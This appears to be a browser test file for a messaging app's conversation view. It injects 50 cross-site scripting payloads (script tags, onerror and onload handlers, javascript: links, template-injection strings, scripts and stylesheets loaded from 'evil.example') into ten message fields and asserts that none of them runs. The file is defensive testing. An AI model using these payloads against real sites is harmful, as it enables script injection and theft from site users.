/**
 * What customers, providers and colleagues may call themselves and write: five hundred pieces of text that try to
 * become script, in every place of a message that holds text. None may run, load anything, or lead anywhere but out.
 */
import { expect, inject, test } from 'vitest'
import type { Message } from '../src/api/types'
import { open, untilLive, useBrowser } from './browser.mts'

useBrowser()

const RUN = 'window.hit=1'

/** Each sets `window.hit` when it runs. */
const TEXTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<img src="x" srcset="x" onerror=eval(atob('d2luZG93LmhpdD0x'))>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext></p><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:/${RUN}//">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `java\tscript:${RUN} https://example.org/"onmouseover="${RUN}`,
  `[x](javascript:${RUN}) *<img src=x onerror=${RUN}>* _\`<svg onload=${RUN}>\`_`,
  `\u202E<img src=x onerror=${RUN}>\u0000\uFEFF&lt;img src=x onerror=${RUN}&gt;`,
]

type Given = Partial<Message> & Record<string, unknown>

/** Every place of a message that holds text. */
const PLACES: ((text: string) => Given)[] = [
  (text) => ({ content: text }),
  (text) => ({
    kind: 'document',
    content: text,
    attachments: [
      file({ kind: 'document', file_name: text, mime_type: text, url: 'data:application/pdf,' }),
    ],
  }),
  (text) => ({
    kind: 'image',
    content: null,
    attachments: [file({ kind: 'image', state: 'failed', error: text, file_name: text })],
  }),
  (text) => ({
    kind: 'location',
    content: null,
    payload: { location: { latitude: 1, longitude: 2, name: text, address: text } },
  }),
  (text) => ({
    kind: 'contacts',
    content: null,
    payload: {
      contacts: [{ name: text, phones: [{ value: text, label: text }], emails: [{ value: text }] }],
    },
  }),
  (text) => ({
    direction: 'outbound',
    sender_type: 'admin',
    sender_name: text,
    content: text,
    status: 'sent',
  }),
  (text) => ({
    reply_to: { id: 1, kind: 'text', content: text, sender_name: text },
    reactions: [{ emoji: text, sender_type: 'admin', sender_name: text, status: 'read' }],
  }),
  (text) => ({
    direction: 'outbound',
    status: 'failed',
    status_error: { code: text, message: text, action: text },
    kind: 'template',
    payload: { template: { name: text, language: text } },
  }),
  (text) => ({
    kind: 'order',
    content: text,
    payload: {
      order: { catalog_id: text, items: [{ id: text, quantity: 1, price: 1, currency: text }] },
      unsupported: { kind: text, reason: text },
    },
  }),
  (text) => ({
    kind: 'share',
    content: text,
    payload: {
      share: { id: text, url: `javascript:${RUN}//${text}`, title: text },
      story: { id: text, url: `javascript:${RUN}`, title: text },
      referral: { source_url: `javascript:${RUN}`, headline: text, body: text },
      reply: { id: text, title: text },
      response: { [text]: text },
    },
  }),
]

function file(given: Record<string, unknown>): never {
  return {
    id: 1,
    url: null,
    mime_type: null,
    file_name: null,
    size_bytes: 1,
    state: 'ready',
    error: null,
    ...given,
  } as never
}

// A page for each place: a thread of hundreds of such messages takes long to draw.
test.runIf(inject('mock')).each(PLACES.map((place, number) => ({ place, number })))(
  'no text is ever run, in place $number of ten',
  { timeout: 60_000 },
  async ({ place }) => {
    const page = await open('/conversations/1')
    await page.getByRole('log').getByRole('article').first().waitFor()
    await untilLive(page)
    const dialogs: string[] = []
    const outside: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) outside.push(request.url())
    })
    expect(TEXTS.length * PLACES.length).toBe(500)
    for (let from = 0; from < TEXTS.length; from += 25) {
      const slice = TEXTS.slice(from, from + 25).map(place)
      await page.evaluate(
        (messages) =>
          messages.forEach((message) => void window.mock!.server.receive(1, message as never)),
        slice as never[],
      )
      const last = `end of ${from}`
      await page.evaluate((content) => void window.mock!.server.receive(1, { content }), last)
      // Nobody scrolls: the thread stays at its end, or the last message would not be drawn.
      await page.getByRole('log').getByText(last, { exact: true }).waitFor()
      const found = await page.evaluate(() => ({
        hit: (window as never as { hit?: number }).hit,
        links: [...document.querySelectorAll('a[href], [src], form[action]')]
          .map((element) =>
            ['href', 'src', 'action'].map((name) => element.getAttribute(name) ?? '').join(''),
          )
          .filter((address) => /^\s*(java|vb)\s*script:/i.test(address)),
        open: [...document.querySelectorAll('a[href^="http"]')].filter(
          (link) => !link.getAttribute('rel')?.includes('noopener'),
        ).length,
        handlers: [...document.querySelectorAll('#app *')].filter((element) =>
          [...element.attributes].some((attribute) => /^on[a-z]+$/.test(attribute.name)),
        ).length,
      }))
      expect(found, `of ${from} to ${from + 25}`).toEqual({
        hit: undefined,
        links: [],
        open: 0,
        handlers: 0,
      })
    }
    const hit = await page.evaluate(() => (window as never as { hit?: number }).hit)
    expect({ dialogs, outside, hit }).toEqual({ dialogs: [], outside: [], hit: undefined })
  },
)
